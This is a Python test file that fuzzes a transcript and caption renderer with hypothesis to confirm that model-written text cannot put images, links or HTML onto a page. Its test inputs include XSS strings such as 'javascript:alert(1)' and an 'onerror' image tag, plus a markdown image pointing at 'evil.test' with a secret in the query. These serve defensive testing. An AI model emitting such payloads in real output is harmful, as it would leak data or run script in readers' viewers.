"""Laws of the files that others' programs render: what was said and what a model answers is text on them, and nothing
is fetched or run by opening one. A real CommonMark parser says what a page has.
"""

import re
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from roomtone import Analysis, Answer, Turn, captions
from roomtone.captions import Cue, one_line
from roomtone_transcript.page import Style, render

AT = datetime(2026, 1, 2, 12, 0, tzinfo=UTC)
STYLE = Style("markdown", UTC, {})
PARSERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))

PIECES = [
    "![", "](", "[", "]", "](<", ")", "[x]: ", "]: ", "][", "][]", "[^1]: ", "<", ">", "&lt;", "&#60;", "&#x5d;", "\\",
    "`", "``", "```", "~~~", "javascript:alert(1)", "http://evil.test/?q=", "data:text/html,x", "\n", "\n\n", "    ",
    "\t", "> ", "- ", "# ", "---", "===", "|", "*", "_", "x", "é", "\x1b", "\u2028", "\u202e", "\r", "\x0b", " ",
    "<script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "<https://evil.test>", "$", ":", "(",
]  # fmt: skip
NASTY = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=30).map("".join)


def of(text: str, parser: MarkdownIt) -> Iterator[Token]:
    waiting = parser.parse(text)
    while waiting:
        token = waiting.pop()
        yield token
        waiting += token.children or []


def active(text: str) -> set[str]:
    """The images, links and scripts that a viewer of this page would load."""
    kinds = {"image", "link_open", "html_inline", "html_block"}
    return {token.type for parser in PARSERS for token in of(text, parser) if token.type in kinds and not _bare(token)}


def _bare(token: Token) -> bool:
    """True for an address that stands there as it is: nothing is hidden behind it."""
    return token.markup == "linkify" or token.info == "auto"


def answer(text: str) -> Answer:
    return Answer(
        id="a", room="desk", position=0, at=AT, session_id="s", turn_order=0, turn="t", text=text, response={}
    )


def analysis(text: str) -> Analysis:
    return Analysis(
        id="b", room="desk", position=0, at=AT, name=text, start=0, end=1, text=text, response={}, model="m",
        requests=1, input_tokens=1, output_tokens=1, cost=None,
    )  # fmt: skip


def turn(text: str, speaker: str | None = None) -> Turn:
    return Turn(id="t", room="desk", position=0, at=AT, session_id="s", turn_order=0, text=text, speaker=speaker)


@given(NASTY)
@example("![](http://evil.test/?q=secret)")
@example("[x](javascript:alert(1))")
@example("![x][r]\n\n[r]: http://evil.test/x.png")
@example("[r]: javascript:alert(1)\n[r]")
@example("[r]\n\n[r]:\n<javascript:alert(1)>")
@example("\\\\](http://evil.test)[x](http://evil.test)")
@example("[x\\](y)](http://evil.test)")
@example("<javascript:alert(1)>")
@example("`](` [x](http://evil.test)")
@example("[![i](http://evil.test/i)](http://evil.test)")
def test_a_model_gets_nothing_active_onto_a_page(text: str) -> None:
    """No image, link or HTML, whatever the model writes and in any viewer; the rest of the page stays the same."""
    page = render("desk", [turn("before"), answer(text), analysis(text)], STYLE).decode()
    assert active(page) == set()


def test_a_model_still_writes_markdown() -> None:
    """Emphasis, lists, headings and code are what they were."""
    page = render("desk", [answer("# Plan\n\n- *one*\n- [ ] two: [3]\n\n```\na[0] = 1\n```")], STYLE).decode()
    assert {"heading_open", "bullet_list_open", "em_open", "fence"} <= {token.type for token in of(page, PARSERS[0])}
    assert "a[0] = 1" in page
    assert "two: [3]" in page


@given(NASTY, NASTY)
def test_what_was_said_is_text(text: str, speaker: str) -> None:
    """A turn, its speaker and the title are one line of text each, and the text is what was said."""
    page = render(text, [turn(text, speaker or None)], STYLE).decode()
    assert active(page) == set()
    blocks = [token for token in PARSERS[0].parse(page) if token.type == "inline"]
    shown = ["".join(child.content for child in token.children or []) for token in blocks]
    assert len(shown) <= 2
    assert _squeezed(one_line(text)) in _squeezed(shown[-1] if shown else "")
    assert len(page.split("\n")) <= 5


def _squeezed(text: str) -> str:
    """Without blanks, of which Markdown makes its own."""
    return "".join(text.split())


CUES = st.builds(
    Cue, st.floats(0, 1e5), st.floats(0, 1e5), NASTY.map(captions._plain), st.none() | NASTY.map(captions._plain)
)


@given(st.lists(CUES, min_size=1, max_size=5))
@example([Cue(0, 1, "a --> b", "x --> y"), Cue(0, 1, "----->", None)])
@example([Cue(0, 1, "NOTE this is said", None), Cue(1, 2, "STYLE", "NOTE"), Cue(2, 3, "WEBVTT", "REGION")])
@example([Cue(0, 1, "00:00:00.000 --> 00:00:01.000", "1")])
def test_captions_keep_their_times(cues: list[Cue]) -> None:
    """In SRT and WebVTT each caption is one block: its time, which has the only arrow, and one line of text, which is
    neither a note nor a style.
    """
    for form, head in (("srt", 1), ("vtt", 0)):
        text = captions.render(cues, form).decode()  # type: ignore[arg-type]  # of these two
        blocks = text.removeprefix("WEBVTT\n\n").removesuffix("\n").split("\n\n")
        assert len(blocks) == len(cues)
        for block in blocks:
            lines = block.split("\n")
            assert len(lines) == head + 2, block
            assert re.fullmatch(r"\d\d+:\d\d:\d\d[.,]\d{3} --> \d\d+:\d\d:\d\d[.,]\d{3}", lines[head])
            assert "-->" not in lines[-1]


@pytest.mark.parametrize(
    ("said", "srt"),
    [
        ("<b>bold</b>", "< b>bold< /b>"),
        ("{\\an8}top", "{ \\an8}top"),
        ("{y:i}", "{ y:i}"),
        ("a --> b", "a -- > b"),
        ("1 < 2 > 0 {3}", "1 < 2 > 0 {3}"),
    ],
)
def test_no_player_obeys_what_was_said(said: str, srt: str) -> None:
    """Marks of SRT and of its neighbours are text; in WebVTT they are escaped."""
    assert captions.render([Cue(0, 1, said)], "srt").decode().splitlines()[-1] == srt
    vtt = captions.render([Cue(0, 1, said, said)], "vtt").decode().splitlines()[-1]
    assert re.findall(r"<[^v]|<v(?! )", vtt) == []
    assert vtt.count("<") == 1


def test_every_text_is_one_line() -> None:
    """The whole of Unicode, a character at a time."""
    assert all(len(one_line(f"a{chr(number)}b").splitlines()) == 1 for number in _characters())


def _characters() -> Iterable[int]:
    return range(0x11000)
